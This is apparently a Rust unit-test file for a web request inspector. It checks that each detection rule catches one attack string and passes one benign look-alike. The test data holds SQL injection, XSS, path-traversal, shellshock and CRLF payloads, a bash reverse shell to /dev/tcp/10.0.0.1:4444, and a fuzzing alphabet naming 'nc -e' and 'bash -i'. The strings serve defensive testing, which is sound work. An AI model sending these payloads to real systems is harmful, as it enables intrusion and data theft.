//! Unit tests: each rule alone on one attack it must catch and one near-miss it must pass, the
//! pre-filter's soundness, options, and the JSON / form / query walkers.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::*;
use std::sync::LazyLock;

/// Inspectors per level (index = `Level as usize`), with and without the pre-filter, built once:
/// construction is the expensive part.
static FILTERED: LazyLock<Vec<Inspector>> = LazyLock::new(|| build(true));
static UNFILTERED: LazyLock<Vec<Inspector>> = LazyLock::new(|| build(false));

fn build(prefilter: bool) -> Vec<Inspector> {
    Level::ALL
        .iter()
        .map(|&level| {
            let mut inspector = Inspector::new(&InspectorOptions {
                level,
                ..Default::default()
            })
            .unwrap();
            inspector.prefilter = prefilter;
            inspector
        })
        .collect()
}

fn at(level: Level) -> &'static Inspector {
    &FILTERED[level as usize]
}

/// Asserts that the pre-filter changes nothing for `value` at any level and location.
fn assert_prefilter_sound(value: &str) {
    for level in Level::ALL {
        for location in Location::ALL {
            assert_eq!(
                FILTERED[level as usize].inspect(location, value),
                UNFILTERED[level as usize].inspect(location, value),
                "pre-filter hides a match at {level}/{location}: {value:?}"
            );
        }
    }
}

/// (rule, location, caught, near miss that must pass)
const CASES: &[(&str, Location, &str, &str)] = &[
    (
        "sqli-union-select",
        Location::QueryValue,
        "1 UnIoN/**/SeLeCt password from users",
        "the union selected its delegates",
    ),
    (
        "sqli-time-delay",
        Location::QueryValue,
        "1';waitfor delay '0:0:5'--",
        "wait for a delay of 5 minutes",
    ),
    (
        "sqli-stacked-admin",
        Location::FormValue,
        "x'; DROP TABLE users--",
        "drop the table; it's broken",
    ),
    (
        "sqli-tautology-quoted",
        Location::FormValue,
        "admin' or '1'='1",
        "O'Brien's order; don't ship before 5 - 3 = 2 days",
    ),
    (
        "sqli-tautology",
        Location::QueryValue,
        "1 or 1=1",
        "2 and 2 = 4, x or y = z",
    ),
    (
        "sqli-comment-breakout",
        Location::FormValue,
        "admin'--",
        "He said \"no\" -- and left",
    ),
    (
        "sqli-stacked-query",
        Location::QueryValue,
        "1; select pg_sleep(5)",
        "done; select a size below",
    ),
    (
        "sqli-sleep-call",
        Location::QueryValue,
        "1 and sleep(5)",
        "use time.sleep(5) between retries",
    ),
    (
        "sqli-db-probe",
        Location::QueryValue,
        "1 and 1=(select @@version)",
        "email me @ version 2",
    ),
    (
        "sqli-subquery",
        Location::JsonValue,
        "1 and (select count(*) from users)>0",
        "(select one of the options)",
    ),
    (
        "sqli-order-probe",
        Location::QueryValue,
        "1' ORDER BY 3--+",
        "sort order by date",
    ),
    (
        "sqli-having",
        Location::QueryValue,
        "1 having 1=1",
        "having 2 dogs",
    ),
    (
        "sqli-char-encoding",
        Location::QueryValue,
        "char(47,101,116,99)",
        "char(47) is a slash",
    ),
    (
        "sqli-keyword-after-quote",
        Location::QueryValue,
        "x' and 'y",
        "rock 'n roll",
    ),
    (
        "sqli-select-from",
        Location::JsonValue,
        "SELECT id FROM users",
        "use `SELECT` carefully",
    ),
    (
        "xss-script-tag",
        Location::QueryValue,
        "<ScRiPt>alert(1)</script>",
        "the scripts folder < 3 MB",
    ),
    (
        "xss-event-handler",
        Location::JsonValue,
        "<img src=x onerror=alert(1)>",
        "a < b && c > d, onerror = retry",
    ),
    (
        "xss-javascript-uri",
        Location::QueryValue,
        "java\tscript:alert(1)",
        "JavaScript: The Good Parts",
    ),
    (
        "xss-attribute-breakout",
        Location::QueryValue,
        "\" autofocus onfocus=alert(1) x=\"",
        "\"online\" is the status",
    ),
    (
        "xss-dangerous-tag",
        Location::JsonValue,
        "<svg/onload=alert(1)>",
        "the <svgfile> placeholder",
    ),
    (
        "xss-tag-breakout",
        Location::QueryValue,
        "\"><h1>x</h1>",
        "\"quoted\" > 3",
    ),
    (
        "xss-js-sink",
        Location::QueryValue,
        "';alert(document.domain)//",
        "set up alert(s) for errors",
    ),
    (
        "xss-data-uri",
        Location::JsonValue,
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png;base64,iVBORw0KGgo=",
    ),
    (
        "xss-css-expression",
        Location::JsonValue,
        "width: expression(alert(1))",
        "a regular expression (regex)",
    ),
    ("xss-html-tag", Location::JsonValue, "<b>bold</b>", "a<b"),
    (
        "xss-dom-access",
        Location::JsonValue,
        "x=document.cookie",
        "the document cookie policy",
    ),
    (
        "xss-template-injection",
        Location::JsonValue,
        "{{constructor.constructor('alert(1)')()}}",
        "Hello {{name}}",
    ),
    (
        "traversal-dotdot",
        Location::QueryValue,
        "..\\..\\windows\\win.ini",
        "wait... what?",
    ),
    (
        "traversal-dotdot-repeated",
        Location::JsonValue,
        "../../../etc/passwd",
        "see ../README.md",
    ),
    (
        "traversal-sensitive-file",
        Location::QueryValue,
        "/etc/passwd",
        "/etc/passwords-policy.md",
    ),
    (
        "traversal-stream-wrapper",
        Location::QueryValue,
        "php://filter/convert.base64-encode/resource=index",
        "https://php.net/manual",
    ),
    (
        "traversal-null-byte",
        Location::QueryValue,
        "../../etc/passwd%00.jpg",
        "100% done",
    ),
    (
        "traversal-dotdot-body",
        Location::JsonValue,
        "see ../README.md",
        "wait...",
    ),
    (
        "traversal-config-file",
        Location::QueryValue,
        "../.git/config",
        "my git config",
    ),
    (
        "traversal-absolute-path",
        Location::QueryValue,
        "/etc/hosts",
        "/api/etc",
    ),
    (
        "cmdi-shellshock",
        Location::Header,
        "() { :; }; /bin/bash -c id",
        "f() { return 1; }",
    ),
    (
        "cmdi-ifs",
        Location::QueryValue,
        "cat${IFS}/etc/passwd",
        "the IFS variable splits fields; cost $5",
    ),
    (
        "cmdi-reverse-shell",
        Location::QueryValue,
        "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "bash is installed",
    ),
    (
        "cmdi-ssi",
        Location::FormValue,
        "<!--#exec cmd=\"ls\" -->",
        "<!-- a comment -->",
    ),
    (
        "cmdi-shell-chain",
        Location::QueryValue,
        "127.0.0.1; cat /etc/passwd",
        "Tom & Jerry; cat lovers welcome",
    ),
    (
        "cmdi-newline-command",
        Location::QueryValue,
        "x\nid",
        "x\nidentity",
    ),
    (
        "cmdi-backtick",
        Location::QueryValue,
        "`id`",
        "run `make test` first",
    ),
    (
        "cmdi-newline-command-body",
        Location::JsonValue,
        "line\nsleep 5",
        "line\nsleep well",
    ),
    (
        "cmdi-backtick-anywhere",
        Location::JsonValue,
        "run `ls -la` first",
        "run `make test` first",
    ),
    (
        "cmdi-shell-path",
        Location::JsonValue,
        "/bin/sh",
        "/bin/shop",
    ),
    (
        "cmdi-shell-chain-any",
        Location::JsonValue,
        "A; cat lovers",
        "category; catalogue",
    ),
    (
        "crlf-header",
        Location::QueryValue,
        "/%0d%0aSet-Cookie:crlf=injection",
        "/next?page=2",
    ),
    (
        "crlf-header-line",
        Location::JsonValue,
        "x\r\nSet-Cookie: a=b",
        "Hello,\r\nsee you: tomorrow",
    ),
    (
        "crlf-unicode-newline",
        Location::Header,
        "a\u{2028}Set-Cookie: x",
        "a\u{2027}b",
    ),
    (
        "crlf-truncated-newline",
        Location::QueryValue,
        "\u{560a}\u{560d}Location: x",
        "\u{5609}",
    ),
];

fn only(rule: &str) -> Inspector {
    let disabled = Inspector::rules()
        .iter()
        .filter(|r| r.id != rule)
        .map(|r| r.id.to_owned())
        .collect();
    Inspector::new(&InspectorOptions {
        level: Level::High,
        categories: Category::ALL.to_vec(),
        disabled_rules: disabled,
    })
    .unwrap()
}

#[test]
fn every_rule_catches_its_case_and_passes_its_near_miss() {
    for rule in Inspector::rules() {
        assert!(
            CASES.iter().any(|(id, ..)| *id == rule.id),
            "rule {} has no unit case",
            rule.id
        );
    }
    for (id, location, caught, near_miss) in CASES {
        let inspector = only(id);
        let found = inspector.inspect(*location, caught);
        assert_eq!(
            found.map(|f| f.rule),
            Some(*id),
            "{id} must catch {caught:?}"
        );
        assert_eq!(
            inspector.inspect(*location, near_miss),
            None,
            "{id} must pass {near_miss:?}"
        );
    }
}

#[test]
fn rule_ids_are_unique_and_well_formed() {
    let rules = Inspector::rules();
    for (i, rule) in rules.iter().enumerate() {
        assert!(
            rules.iter().skip(i + 1).all(|r| r.id != rule.id),
            "duplicate {}",
            rule.id
        );
        assert!(rule.id.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'));
        assert!(!rule.description.is_empty() && !rule.locations.is_empty());
    }
}

#[test]
fn every_level_compiles() {
    let rules = |level: Level| {
        at(level)
            .groups
            .iter()
            .map(|g| g.members.len())
            .sum::<usize>()
    };
    assert!(rules(Level::Low) < rules(Level::Medium) && rules(Level::Medium) < rules(Level::High));
    assert_eq!(
        rules(Level::High) + at(Level::High).builtins.len(),
        Inspector::rules().len()
    );
}

#[test]
fn unknown_disabled_rule_is_an_error_naming_it() {
    let options = InspectorOptions {
        disabled_rules: vec!["sqli-union-selekt".into()],
        ..InspectorOptions::default()
    };
    let err = Inspector::new(&options).unwrap_err();
    assert_eq!(err, InspectError::UnknownRule("sqli-union-selekt".into()));
    assert!(err.to_string().contains("sqli-union-selekt"));
}

#[test]
fn levels_categories_and_disabled_rules_apply() {
    let low = at(Level::Low);
    assert_eq!(low.inspect(Location::FormValue, "admin' or '1'='1"), None);
    let medium = at(Level::Medium);
    assert_eq!(
        medium
            .inspect(Location::FormValue, "admin' or '1'='1")
            .map(|f| f.rule),
        Some("sqli-tautology-quoted")
    );
    let no_sqli = Inspector::new(&InspectorOptions {
        categories: vec![Category::Xss],
        ..Default::default()
    })
    .unwrap();
    assert_eq!(
        no_sqli.inspect(Location::QueryValue, "1 union select 1"),
        None
    );
    let disabled = Inspector::new(&InspectorOptions {
        disabled_rules: vec!["sqli-union-select".into()],
        ..Default::default()
    })
    .unwrap();
    assert_eq!(
        disabled.inspect(Location::QueryValue, "1 union select 1"),
        None
    );
}

#[test]
fn names_parse() {
    for c in Category::ALL {
        assert_eq!(c.as_str().parse::<Category>().unwrap(), c);
    }
    for l in Level::ALL {
        assert_eq!(l.as_str().parse::<Level>().unwrap(), l);
    }
    for l in Location::ALL {
        assert_eq!(l.as_str().parse::<Location>().unwrap(), l);
    }
    assert!("Medium".parse::<Level>().is_err());
    assert!("sql".parse::<Category>().is_err());
}

#[test]
fn crlf_depends_on_location() {
    let inspector = at(Level::Medium);
    let text = "Hello,\r\nthe order ships Monday.\r\nRegards";
    assert_eq!(inspector.inspect(Location::JsonValue, text), None);
    assert_eq!(
        inspector
            .inspect(Location::QueryValue, text)
            .map(|f| f.rule),
        Some("crlf-header")
    );
}

#[test]
fn walkers_find_keys_values_and_form_fields() {
    let inspector = at(Level::Medium);
    let body = serde_json::json!({
        "name": "O'Brien", "age": 42, "tags": ["a", {"deep": ["x", "1' or '1'='1"]}]
    });
    let found = inspector.inspect_json(&body).unwrap();
    assert_eq!(
        (found.rule, found.location),
        ("sqli-tautology-quoted", Location::JsonValue)
    );
    let key = serde_json::json!({"<script>": 1});
    assert_eq!(
        inspector.inspect_json(&key).unwrap().location,
        Location::JsonKey
    );
    assert_eq!(
        inspector.inspect_json(&serde_json::json!({"note": "5 - 3 = 2"})),
        None
    );

    let form = b"name=O%27Brien&comment=1%27+or+%271%27%3D%271";
    assert_eq!(
        inspector.inspect_form(form).unwrap().location,
        Location::FormValue
    );
    assert_eq!(
        inspector.inspect_form(b"name=O%27Brien&city=St+John%27s"),
        None
    );
    assert_eq!(
        inspector
            .inspect_query("q=x&%3Cscript%3E=1")
            .unwrap()
            .location,
        Location::QueryName
    );
    assert_eq!(
        inspector.inspect_query("q=caf%C3%A9&page=2&sort=-date"),
        None
    );
    assert_eq!(
        inspector
            .inspect_path("/files/..%2f..%2fetc%2fpasswd")
            .map(|f| f.rule),
        Some("traversal-dotdot")
    );
    assert_eq!(inspector.inspect_path("/users/42/orders"), None);
    assert_eq!(
        inspector
            .inspect_cookie_header("sid=abc; pref=%3Cscript%3Ealert(1)%3C/script%3E")
            .map(|f| f.location),
        Some(Location::Cookie)
    );
    assert_eq!(
        inspector.inspect_cookie_header("_ga=GA1.2.3.4; sid=\"abc--def\""),
        None
    );
}

/// A value the pre-filter clears must be one no rule matches: compare with the pre-filter off,
/// over every unit case (attacks and near misses) at every level and location.
#[test]
fn prefilter_never_hides_a_match() {
    for (_, _, caught, near_miss) in CASES {
        assert_prefilter_sound(caught);
        assert_prefilter_sound(near_miss);
    }
}

/// The same, over the labelled corpus of `tests/corpus/`.
#[test]
fn prefilter_never_hides_a_match_in_the_corpus() {
    let corpus = [
        include_str!("../../tests/corpus/attacks.jsonl"),
        include_str!("../../tests/corpus/benign.jsonl"),
    ];
    for line in corpus
        .iter()
        .flat_map(|c| c.lines())
        .filter(|l| !l.trim().is_empty())
    {
        let entry: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_prefilter_sound(entry["value"].as_str().unwrap());
    }
}

mod props {
    use super::*;
    use proptest::prelude::*;

    /// Characters attacks are made of, so random strings reach deep into the rules.
    fn attacky() -> impl Strategy<Value = String> {
        let pieces = prop::sample::select(vec![
            "'",
            "\"",
            "`",
            ";",
            "|",
            "&",
            "$(",
            "${IFS}",
            "<",
            ">",
            "/",
            "\\",
            "..",
            "%",
            "%2",
            "%25",
            "%0d",
            "%0a",
            "&#",
            "&#x3c;",
            "x",
            ";",
            "=",
            "(",
            ")",
            "--",
            "#",
            "/*",
            "*/",
            "@@",
            " ",
            "\t",
            "\n",
            "\r",
            "\0",
            "or",
            "and",
            "1",
            "union",
            "select",
            "script",
            "on",
            "load",
            "javascript:",
            "etc",
            "passwd",
            "id",
            "cat",
            "sleep",
            "document.cookie",
            "window.location",
            "fromCharCode",
            "+ADw-script",
            "nc -e",
            "/dev/tcp/",
            "bash -i",
            "waitfor delay",
            "declare @x varchar",
            "<!--#exec",
            "\u{ff1c}",
            "\u{2028}",
            "\u{e9}",
            "\u{c0}",
            "\u{560a}",
        ]);
        prop::collection::vec(pieces, 0..24).prop_map(|v| v.concat())
    }

    proptest! {
        #[test]
        fn inspect_never_panics(s in ".*", t in attacky()) {
            let inspector = at(Level::High);
            for location in Location::ALL {
                let _ = inspector.inspect(location, &s);
                let _ = inspector.inspect(location, &t);
            }
            let _ = inspector.inspect_form(s.as_bytes());
            let _ = inspector.inspect_query(&t);
            let _ = inspector.inspect_path(&t);
            let _ = inspector.inspect_cookie_header(&t);
        }

        #[test]
        fn prefilter_is_sound_on_random_strings(t in attacky()) {
            for level in Level::ALL {
                for location in Location::ALL {
                    prop_assert_eq!(
                        FILTERED[level as usize].inspect(location, &t),
                        UNFILTERED[level as usize].inspect(location, &t)
                    );
                }
            }
        }
    }
}
